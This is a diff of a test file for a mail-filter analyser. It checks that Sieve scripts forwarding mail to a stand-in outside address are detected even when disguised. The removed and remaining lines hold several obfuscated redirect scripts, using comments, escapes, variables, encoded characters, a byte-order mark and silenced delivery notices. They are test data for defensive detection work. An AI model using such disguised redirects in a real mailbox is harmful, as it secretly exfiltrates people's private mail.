@@ -3,26 +3,16 @@ import assert from 'node:assert/strict'
 import { describe, it } from 'node:test'
 import { describeFilter } from '#server/mail-filters/describe-filter.ts'
 import { readSieve } from '#server/mail-filters/read-sieve.ts'
+import { disguisedRedirects } from './support/sieve-scripts.ts'
 
 const tell = (text: string) => describeFilter([{ name: 'main', text }])
 const leadsTo = (text: string) => tell(text).targets.map(({ address }) => address)
 
 describe('where a filter leads', () => {
   it('is told for each way in which the standard lets an address be written', () => {
-    for (const script of [
-      'redirect "thief@elsewhere.example";',
-      'ReDiReCt\t:copy\r\n"thief@elsewhere.example"\n;',
-      'redirect/* harmless; */:copy # "anna@post.example";\n "thief@elsewhere.example" ;',
-      'redirect "th\\ief@elsewhere\\.example";',
-      'redirect text: # one line\r\nthief@elsewhere.example\r\n.\r\n;',
-      'if true{if not anyof(false,header :is ["a","b"] "c"){keep;}else{redirect "thief@elsewhere.example";}}',
-      'require ["redirect-dsn"]; redirect :notify "NEVER" :ret "HDRS" "thief@elsewhere.example";',
-      `require "variables"; set "who" "thief"; redirect "\${WHO}@elsewhere.example";`,
-      `require ["variables"]; set "a" "thief@"; set "b" "\${a}elsewhere"; redirect "\${b}.example";`,
-      `require "encoded-character"; redirect "thief\${hex:40}\${unicode: 65 6c}sewhere.example";`,
-      'require "enotify"; notify :message "seen" "mailto:thief%40elsewhere.example?subject=x";',
-      '\uFEFFredirect "thief@elsewhere.example";',
-    ]) {
+    const marked = '\uFEFFredirect "thief@elsewhere.example";'
+    const dsn = 'require ["redirect-dsn"]; redirect :notify "NEVER" :ret "HDRS" "thief@elsewhere.example";'
+    for (const script of [...disguisedRedirects, marked, dsn]) {
       assert.deepEqual(leadsTo(script), ['thief@elsewhere.example'], script)
       assert.equal(tell(script).clear, true, script)
     }
